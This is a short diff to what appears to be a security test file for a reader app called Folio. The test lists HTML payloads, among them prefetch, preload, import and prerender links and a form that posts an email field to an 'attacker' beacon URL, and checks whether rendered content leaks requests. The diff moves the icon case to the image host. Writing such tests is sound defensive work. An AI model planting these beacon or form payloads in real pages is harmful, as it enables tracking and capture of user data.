@@ -28,7 +28,8 @@ function specs(): PayloadSpec[] {
   add('link-prefetch', 'link rel=prefetch', (id) => ({ body: `<link rel="prefetch" href="${beaconUrl(id, 'prefetch')}">` }));
   add('link-preload', 'link rel=preload as=image', (id) => ({ body: `<link rel="preload" as="image" href="${beaconUrl(id, 'preload.png')}">` }));
   add('link-modulepreload', 'link rel=modulepreload', (id) => ({ body: `<link rel="modulepreload" href="${beaconUrl(id, 'mod.js')}">` }));
-  add('link-icon', 'link rel=icon in the body', (id) => ({ body: `<link rel="icon" href="${beaconUrl(id, 'icon.png')}">` }));
+  // The page's icon is the page's to choose (Folio shows it like an article image), so it names the image host.
+  add('link-icon', 'link rel=icon in the body', () => ({ body: `<link rel="icon" href="${imageUrl('icon.png')}">` }));
   add('link-import', 'HTML import', (id) => ({ body: `<link rel="import" href="${beaconUrl(id, 'import.html')}">` }));
   add('link-prerender', 'link rel=prerender', (id) => ({ body: `<link rel="prerender" href="${beaconUrl(id, 'prerender')}">` }));
   add('form-action', 'form posting to the attacker', (id) => ({ body: `<form action="${beaconUrl(id, 'post')}" method="post"><input name="email" placeholder="Email"><button>Subscribe</button></form>` }));
